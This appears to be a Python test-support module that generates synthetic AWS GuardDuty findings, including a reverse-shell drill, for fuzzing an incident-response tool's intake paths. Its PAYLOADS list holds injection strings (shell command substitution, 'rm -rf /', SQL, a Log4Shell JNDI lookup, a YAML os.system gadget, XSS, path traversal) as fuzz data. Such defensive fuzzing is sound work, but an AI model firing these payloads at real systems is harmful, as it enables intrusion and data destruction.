"""GuardDuty findings made from botocore's service model: for every intake path, without anybody's real finding.

`finding` gives the API's form (PascalCase), `lowered` EventBridge's spelling by the model's own wire names, `asff` what
Security Hub makes of it. The same seed gives the same finding.
"""

from __future__ import annotations

import json
import random
from collections.abc import Callable, Iterator
from functools import cache
from pathlib import Path
from typing import Any

from botocore.loaders import Loader
from botocore.model import ServiceModel, Shape
from botocore.validate import ParamValidator
from hypothesis import strategies as st

ACCOUNT = "111122223333"
REGION = "eu-west-1"
CLUSTER = f"arn:aws:eks:{REGION}:{ACCOUNT}:cluster/prod-eu"
DETECTOR = "0c5e1d2f3a4b59687786a5b4c3d2e1f0"
POD = {"Name": "web-6c9f7d8b5-x2x4p", "Namespace": "shop", "Uid": "5b1c9c1e-6d3f-4c0a-9a57-0d1e5f2a77e2"}
Json = dict[str, Any]

PAYLOADS = (
    "$(touch /tmp/pwned)", "`id`", "; rm -rf / #", "'; DROP TABLE cases; --", "${jndi:ldap://198.51.100.7/a}",
    "{{7*7}}", "${inputs.pod}", "!!python/object/apply:os.system [id]", "&a [*a, *a]", "on: [push]\n- yes",
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "&lt;b&gt;", "javascript:alert(1)",
    "\x1b[2J\x1b[H", "\x1b]0;owned\x07", "\x9b31m", "\r\nirkit: contained", "\u202egnp.exe", "\u2066\u2069", "\u200b",
    "\x00", "a\x00b", "../../../../etc/passwd", "..\\..\\windows", "/dev/stdin", "C:\\con", "%2e%2e%2f", "%s%n%x",
    "A" * 70_000, "\U000e0041", "\ufeff", "\u2028", "\uff1c", "web\n", "web ", "Web", "-", ".", "..", "*", "~", "null", "None",
    "arn:aws:eks:eu-west-1:111122223333:cluster/prod-eu\n", "system:serviceaccount:kube-system:default:x",
)  # fmt: skip
"""Shell, template, YAML, HTML, terminal, path and Unicode payloads."""


@cache
def shape() -> Shape:
    """The `Finding` of the GuardDuty API."""
    return ServiceModel(Loader().load_service_model("guardduty", "service-2")).shape_for("Finding")


def problems(value: Json) -> str:
    """What the service model has against a finding in the API's form; "" if nothing."""
    report = ParamValidator().validate(value, shape())
    return str(report.generate_report()) if report.has_errors() else ""


# -- any finding -------------------------------------------------------------------------------------

Words = Callable[[random.Random], str]


def _plain(rng: random.Random) -> str:
    return rng.choice(("GeneratedFindingName", "alpha", "198.51.100.9", "i-99999999", "a/b:1.2", "Ünïcode", ""))


def hostile(rng: random.Random) -> str:
    return rng.choice(PAYLOADS)


def _fill(of: Shape, rng: random.Random, words: Words, depth: int) -> Any:
    kind = of.type_name
    if kind == "structure":
        return {
            name: _fill(member, rng, words, depth + 1)
            for name, member in of.members.items()
            if name in of.required_members or rng.random() < 1 / (1 + depth / 2)
        }
    if kind == "list":
        return [_fill(of.member, rng, words, depth + 1) for _ in range(rng.randrange(3 if depth < 8 else 1))]
    if kind == "map":
        return {f"Key{index}": _fill(of.value, rng, words, depth + 1) for index in range(rng.randrange(3))}
    if kind == "string":
        text = rng.choice(of.enum) if of.enum else words(rng)
        return text or "x" * of.metadata.get("min", 0)
    if kind == "timestamp":
        return f"2026-11-{rng.randrange(1, 29):02}T{rng.randrange(24):02}:00:00.{rng.randrange(10**6):06}-05:00"
    if kind == "boolean":
        return rng.random() < 0.5
    return rng.randrange(1, 9) if kind in {"integer", "long"} else rng.randrange(10, 100) / 10


def finding(
    seed: int = 0, *, kind: str = "Execution:Kubernetes/ExecInKubeSystemPod", words: Words = _plain, **changes: Any
) -> Json:
    """Any finding about a pod of the cluster, in the API's form. `changes` replace members of the workload."""
    rng = random.Random(seed)
    value: Json = _fill(shape(), rng, words, 0)
    key = f"{rng.getrandbits(128):032x}"
    value.update(
        AccountId=ACCOUNT,
        Region=REGION,
        Arn=f"arn:aws:guardduty:{REGION}:{ACCOUNT}:detector/{DETECTOR}/finding/{key}",
        Id=key,
        Type=kind,
        SchemaVersion="2.0",
        Severity=rng.choice((2, 5, 5.5, 8.0, 9.3)),
        CreatedAt="2026-11-21T12:00:00.000Z",
        UpdatedAt=f"2026-11-21T12:{rng.randrange(60):02}:00.125Z",
    )
    resource = value["Resource"]
    resource["EksClusterDetails"] = {"Name": "prod-eu", "Arn": CLUSTER, "Status": "ACTIVE"}
    kubernetes = resource.setdefault("KubernetesDetails", {})
    workload = {**kubernetes.get("KubernetesWorkloadDetails", {}), **POD, "Type": "pods", **changes}
    kubernetes["KubernetesWorkloadDetails"] = {name: item for name, item in workload.items() if item is not ...}
    service = value.setdefault("Service", {})
    service.pop("AdditionalInfo", None)
    service.pop("Detection", None)
    return value


def at(value: Any, *path: str | int) -> Any:
    """What stands at a path."""
    for key in path:
        value = value[key]
    return value


def lowered(value: Any, of: Shape | None = None) -> Any:
    """EventBridge's spelling: the names that the service model gives to the wire."""
    of = of or shape()
    if of.type_name == "structure" and type(value) is dict:
        members = of.members
        return {
            members[name].serialization.get("name", name): lowered(item, members[name]) for name, item in value.items()
        }
    if of.type_name == "list" and type(value) is list:
        return [lowered(item, of.member) for item in value]
    return value


def event(value: Json) -> Json:
    """The EventBridge event of a finding in the API's form."""
    return {
        "version": "0",
        "id": "c8c4daa7-a20c-2f03-0070-b7393dd542ad",
        "detail-type": "GuardDuty Finding",
        "source": "aws.guardduty",
        "account": value["AccountId"],
        "time": "2026-11-21T12:05:00Z",
        "region": value["Region"],
        "resources": [],
        "detail": lowered(value),
    }


# -- Security Hub ------------------------------------------------------------------------------------


def flat(value: Any, path: str) -> Iterator[tuple[str, str]]:
    """Security Hub's flattening, as in the custom action that AWS's forensic orchestrator publishes."""
    if type(value) is dict and value:
        for name, item in value.items():
            yield from flat(item, f"{path}/{name}" if path else name)
    elif type(value) is list and value:
        for index, item in enumerate(value):
            yield from flat(item, f"{path}.{index}_")
    elif type(value) is bool:
        yield path, str(value).lower()
    else:
        yield path, {"{}": "", "None": "", "[]": "[]"}.get(str(value), str(value))


def asff(value: Json) -> Json:
    """What Security Hub makes of a finding in the API's form: flattened, with several resources."""
    native = lowered(value)
    threat, _, rest = value["Type"].partition("/")
    resource = native["resource"]
    cluster = resource.get("eksClusterDetails") or {}
    product = f"arn:aws:securityhub:{value['Region']}::product/aws/guardduty"
    other = dict(flat(resource.get("kubernetesDetails") or "", "kubernetesDetails"))
    instance = {"Type": "AwsEc2Instance", "Id": f"arn:aws:ec2:{REGION}:{ACCOUNT}:instance/i-0abc", "Partition": "aws"}
    return {
        "SchemaVersion": "2018-10-08",
        "Id": value["Arn"],
        "ProductArn": product,
        "ProductName": "GuardDuty",
        "GeneratorId": value["Arn"].partition("/finding/")[0],
        "AwsAccountId": value["AccountId"],
        "Region": value["Region"],
        "Types": [f"TTPs/{threat.partition(':')[0]}/{threat}-{rest}"],
        "CreatedAt": value["CreatedAt"],
        "UpdatedAt": value["UpdatedAt"],
        "Severity": {"Product": value["Severity"], "Label": "HIGH", "Normalized": 80},
        "Title": value.get("Title", ""),
        "Description": value.get("Description", ""),
        "ProductFields": dict(flat(native["service"], "aws/guardduty/service")),
        "Resources": [
            instance,
            *([_container(resource["containerDetails"])] if resource.get("containerDetails") else []),
            {
                "Type": "AwsEksCluster",
                "Id": cluster.get("arn", ""),
                "Partition": "aws",
                "Details": {"AwsEksCluster": {"Arn": cluster.get("arn", ""), "Name": "prod-eu"}, "Other": other},
            },
        ],
        "RecordState": "ACTIVE",
        "Workflow": {"Status": "NEW"},
        "Sample": False,
    }


def _container(details: Json) -> Json:
    named = {"Name": details.get("name", ""), "ImageName": details.get("image", "")}
    return {"Type": "Container", "Id": "containerd://f3b2", "Partition": "aws", "Details": {"Container": named}}


def hub_event(*findings: Json, action: str = "") -> Json:
    """The Security Hub event of ASFF findings: imported, or a custom action of this name."""
    detail: Json = {"findings": list(findings)}
    if action:
        detail = {"actionName": action, "actionDescription": "", **detail}
    return {
        "version": "0",
        "id": "8e5622f9-d81c-4d81-612a-9319e7ee2506",
        "detail-type": f"Security Hub Findings - {'Custom Action' if action else 'Imported'}",
        "source": "aws.securityhub",
        "account": ACCOUNT,
        "time": "2026-11-21T12:05:00Z",
        "region": REGION,
        "resources": [f"arn:aws:securityhub:{REGION}:{ACCOUNT}:action/custom/contain"] if action else [],
        "detail": detail,
    }


# -- hypothesis --------------------------------------------------------------------------------------

KINDS = ("Execution:Runtime/ReverseShell", "Execution:Kubernetes/ExecInKubeSystemPod", "Impact:EC2/PortSweep")
SCALARS = st.one_of(
    st.none(), st.booleans(), st.integers(-(2**70), 2**70), st.floats(allow_nan=False, allow_infinity=False),
    st.sampled_from(PAYLOADS), st.text(max_size=40),
)  # fmt: skip
ANY_JSON = st.recursive(
    SCALARS,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=12), inner, max_size=3),
    max_leaves=12,
)
FORMS: tuple[Callable[[Json], Json], ...] = (
    lambda value: value,
    lambda value: {"Findings": [value]},
    lowered,
    event,
    asff,
    lambda value: hub_event(asff(value)),
    lambda value: hub_event(asff(value), action="Contain"),
)
"""Every form in which a finding of the API's form may come."""


def places(value: Any, path: tuple[str | int, ...] = ()) -> Iterator[tuple[str | int, ...]]:
    """The paths of everything below a JSON value."""
    items = value.items() if type(value) is dict else enumerate(value) if type(value) is list else ()
    for key, item in items:
        yield (*path, key)
        yield from places(item, (*path, key))


@st.composite
def documents(draw: st.DrawFn, *, damaged: bool = False) -> Json:
    """A finding in any form, with a payload in every free text; `damaged`: and something foreign in one to three places."""
    seed = draw(st.integers(0, 2**32))
    value = finding(seed, kind=draw(st.sampled_from(KINDS)), words=hostile)
    document = draw(st.sampled_from(FORMS))(value)
    for _ in range(draw(st.integers(1, 3)) if damaged else 0):
        *path, key = draw(st.sampled_from(list(places(document))))
        parent = at(document, *path)
        if draw(st.booleans()) and type(parent) is dict:
            del parent[key]
        else:
            parent[key] = draw(ANY_JSON)
        if not document:
            break
    return document


# -- the drill's own finding -------------------------------------------------------------------------


def drill() -> Json:
    """The finding of the shipped drill, in the API's form: a reverse shell in a shop's web pod."""
    key = "1ec1a4d2c07a41d5b1a02f6f6f2b7d10"
    image = "shop/web:1.14.2"
    started = "2026-11-21T11:58:41.000Z"
    shell = {
        "Name": "bash",
        "ExecutablePath": "/bin/bash",
        "ExecutableSha256": "c3f2b5a1" * 8,
        "Pid": 24117,
        "NamespacePid": 61,
        "Pwd": "/srv/shop",
        "StartTime": started,
        "Uuid": "8d5b3b6e-20f6-4b7b-8b0e-6f3d3a1d9c01",
        "ParentUuid": "8d5b3b6e-20f6-4b7b-8b0e-6f3d3a1d9c02",
        "User": "www-data",
        "UserId": 33,
        "Euid": 33,
        "Lineage": [
            {
                "Name": "node",
                "ExecutablePath": "/usr/local/bin/node",
                "Pid": 23988,
                "NamespacePid": 1,
                "StartTime": "2026-11-19T07:12:03.000Z",
                "Uuid": "8d5b3b6e-20f6-4b7b-8b0e-6f3d3a1d9c02",
                "ParentUuid": "8d5b3b6e-20f6-4b7b-8b0e-6f3d3a1d9c03",
                "UserId": 33,
                "Euid": 33,
            }
        ],
    }
    container = {
        "Name": "web",
        "Image": image,
        "ImagePrefix": "shop",
        "SecurityContext": {"Privileged": True, "AllowPrivilegeEscalation": True},
    }
    return {
        "AccountId": ACCOUNT,
        "Arn": f"arn:aws:guardduty:{REGION}:{ACCOUNT}:detector/{DETECTOR}/finding/{key}",
        "CreatedAt": "2026-11-21T12:00:07.412Z",
        "Description": "A process in a container connected its shell to a remote address.",
        "Id": key,
        "Partition": "aws",
        "Region": REGION,
        "Resource": {
            "ResourceType": "EKSCluster",
            "EksClusterDetails": {
                "Name": "prod-eu",
                "Arn": CLUSTER,
                "VpcId": "vpc-0a1b2c3d4e5f60718",
                "Status": "ACTIVE",
                "Tags": [{"Key": "team", "Value": "shop"}],
                "CreatedAt": "2026-02-03T09:30:00.000Z",
            },
            "KubernetesDetails": {
                "KubernetesWorkloadDetails": {
                    **POD,
                    "Type": "pods",
                    "HostNetwork": False,
                    "HostIPC": False,
                    "HostPID": False,
                    "ServiceAccountName": "web",
                    "Containers": [container],
                    "Volumes": [],
                }
            },
            "ContainerDetails": {
                "ContainerRuntime": "containerd",
                "Id": "f3b2c1d0" * 8,
                "Name": "web",
                "Image": image,
                "ImagePrefix": "shop",
            },
            "InstanceDetails": {
                "AvailabilityZone": f"{REGION}a",
                "InstanceId": "i-0f1e2d3c4b5a69788",
                "InstanceState": "running",
                "InstanceType": "m6i.large",
                "LaunchTime": "2026-11-01T05:00:00.000Z",
            },
        },
        "SchemaVersion": "2.0",
        "Service": {
            "ServiceName": "guardduty",
            "FeatureName": "RuntimeMonitoring",
            "DetectorId": DETECTOR,
            "Archived": False,
            "Count": 1,
            "EventFirstSeen": started,
            "EventLastSeen": "2026-11-21T11:59:02.000Z",
            "ResourceRole": "TARGET",
            "RuntimeDetails": {
                "Process": shell,
                "Context": {"AddressFamily": "AF_INET", "IanaProtocolNumber": 6, "FileSystemType": ""},
            },
        },
        "Severity": 8.0,
        "Title": "A reverse shell was opened from a container of the EKS cluster.",
        "Type": "Execution:Runtime/ReverseShell",
        "UpdatedAt": "2026-11-21T12:00:07.412Z",
    }


DRILL_FILE = Path(__file__).parents[2] / "irkit" / "lab" / "drills" / "compromised-pod" / "finding.json"

if __name__ == "__main__":  # python -m tests.support.guardduty: writes the drill's finding anew
    DRILL_FILE.write_text(json.dumps(event(drill()), indent=2) + "\n")
